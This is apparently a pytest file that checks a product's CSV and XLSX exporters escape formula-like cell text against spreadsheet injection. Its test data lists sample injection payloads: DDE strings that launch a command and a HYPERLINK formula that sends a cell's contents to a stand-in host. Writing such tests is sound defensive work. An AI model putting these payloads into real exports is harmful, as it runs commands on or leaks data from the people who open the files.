"""Exports cannot attack the person who opens them (issue 12, item 7): every CSV and XLSX writer
the product has puts text that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR)
through one guard, and numbers stay numbers."""

import csv

import pytest
from openpyxl import load_workbook

from app.domain.export_cells import TRIGGERS, safe_cell, safe_row
from app.domain.workflows.counter import report
from app.domain.workflows.counter.model import ClaimRow, RedemptionRow
from app.domain.workflows.paperwork import Document, Table, write_csv, write_xlsx
from app.domain.workflows.warehouse.model import Flow

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -3, 4.5, None, "", "-", "-12.50", "+86", "1,234.5", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_safe_row_takes_any_iterable():
    assert safe_row(iter(["=1", 2])) == ["'=1", 2]


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and safe_cell(value) != value


def _document() -> Document:
    table = Table(["Product", "Code"], [[attack, attack] for attack in ATTACKS], "Lines")
    return Document(Flow.RECEIVE, "RCV-1", "Receipt", [("Operator", ATTACKS[0])], [table])


def test_paperwork_csv_has_no_live_cell(tmp_path):
    path = write_csv(_document(), tmp_path / "receipt.csv")
    cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
    assert "'" + ATTACKS[0] in cells  # the old writer wrote it raw
    assert not [c for c in cells if _dangerous(c)]


def test_paperwork_xlsx_stores_no_formula(tmp_path):
    path = write_xlsx(_document(), tmp_path / "receipt.xlsx")
    cells = [c for row in load_workbook(path).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # old: B2, A5… were formulas
    assert not [c.coordinate for c in cells if _dangerous(c.value)]


def test_day_close_xlsx_stores_no_formula(tmp_path):
    red = RedemptionRow(
        "V1", "e1", ATTACKS[0], 9900, "2026-12-06T09:00:00+00:00", ATTACKS[3], True, "redeemed",
        "pending",
    )  # fmt: skip
    claim = ClaimRow(
        "CL1", "e2", "C1", ATTACKS[1], "2026-12-06T09:05:00+00:00", ATTACKS[2], 3, 300, True,
        "pending",
    )  # fmt: skip
    day = report.DayReport("2026-12-06", "ST-1", [red], [claim])
    path = report.write_xlsx(day, tmp_path / "close.xlsx")
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if _dangerous(c.value)]
    assert any(c.value == "'" + ATTACKS[0] for c in cells)
